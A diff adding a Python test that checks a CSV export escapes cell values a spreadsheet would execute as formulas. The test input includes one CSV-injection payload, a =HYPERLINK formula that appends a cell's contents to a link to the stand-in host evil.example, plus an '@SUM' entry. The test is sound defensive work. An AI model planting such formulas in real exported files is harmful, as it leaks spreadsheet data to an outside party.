@@ -58,3 +58,14 @@ def test_real_data_bears_no_such_mark() -> None:
 def test_the_source_stands_below_the_rows() -> None:
     source = lines("en")[5][0]
     assert all(word in source for word in ("a1b2", "1 April 2024", "30 September 2026", "1.0.0"))
+
+
+FORMULA = """=HYPERLINK("//evil.example/"&A2,"Open")"""
+
+
+def test_a_name_that_a_spreadsheet_would_run_comes_as_words() -> None:
+    rows = [{"community_name": name, "gap": -0.5} for name in (FORMULA, "@SUM(1)", "North")]
+    found = list(csv.reader(as_csv(rows, FACTS, Language("en")).decode("utf-8-sig").splitlines()))
+    assert [line[0] for line in found[1:4]] == [f"'{FORMULA}", "'@SUM(1)", "North"]
+    # A number below zero is a number.
+    assert [line[1] for line in found[1:4]] == ["-0.5"] * 3
